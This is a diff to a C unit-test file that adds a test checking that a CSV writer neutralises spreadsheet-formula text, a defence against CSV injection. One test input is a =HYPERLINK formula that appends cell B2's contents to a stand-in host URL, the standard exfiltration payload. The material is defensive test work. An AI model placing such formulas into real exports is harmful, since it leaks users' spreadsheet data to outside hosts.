@@ -98,7 +98,7 @@ static void csvout_quotes_only_fields_that_need_it(void **state)
     put(fx, "cr\r");
     put(fx, " leading");
     put(fx, "trailing ");
-    put(fx, "\ttab");
+    put(fx, "tab\t");
     put(fx, "in side");
     put(fx, "I2019:10.2;I2019:10.5");
     put(fx, "");
@@ -106,7 +106,33 @@ static void csvout_quotes_only_fields_that_need_it(void **state)
     end(fx);
     assert_string_equal(finish(fx), "plain,(2021)京0105刑初123号,\"a,b\",\"say \"\"hi\"\"\","
                                     "\"two\nlines\",\"cr\r\",\" leading\",\"trailing \","
-                                    "\"\ttab\",in side,I2019:10.2;I2019:10.5,,\n");
+                                    "\"tab\t\",in side,I2019:10.2;I2019:10.5,,\n");
+}
+
+/* Text a spreadsheet would compute is written as '... in quotes (OWASP,
+ * "CSV Injection"); plain numbers, negative ones too, stay numbers. */
+static void csvout_neutralises_formula_like_text(void **state)
+{
+    struct fx *fx = *state;
+
+    open_writer(fx, false);
+    put(fx, "=HYPERLINK(\"http://x.example/?\"&B2,\"open\")");
+    put(fx, "+1");
+    put(fx, "-2+3");
+    put(fx, "@SUM(A1)");
+    put(fx, "\tlead");
+    put(fx, "\rcr");
+    put(fx, "-");
+    put(fx, "-1.");
+    put(fx, "-.5");
+    put(fx, "-3");
+    put(fx, "-0.25");
+    put(fx, "1=1");
+    put(fx, "a-b");
+    end(fx);
+    assert_string_equal(finish(fx), "\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"open\"\")\","
+                                    "\"'+1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tlead\",\"'\rcr\","
+                                    "\"'-\",\"'-1.\",\"'-.5\",-3,-0.25,1=1,a-b\n");
 }
 
 static void csvout_field_takes_a_length_and_null_for_empty(void **state)
@@ -429,6 +455,7 @@ int main(void)
 #define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
     const struct CMUnitTest tests[] = {
         T(csvout_quotes_only_fields_that_need_it),
+        T(csvout_neutralises_formula_like_text),
         T(csvout_field_takes_a_length_and_null_for_empty),
         T(csvout_writes_a_bom_only_when_asked),
         T(csvout_keeps_a_row_of_one_empty_field_visible),
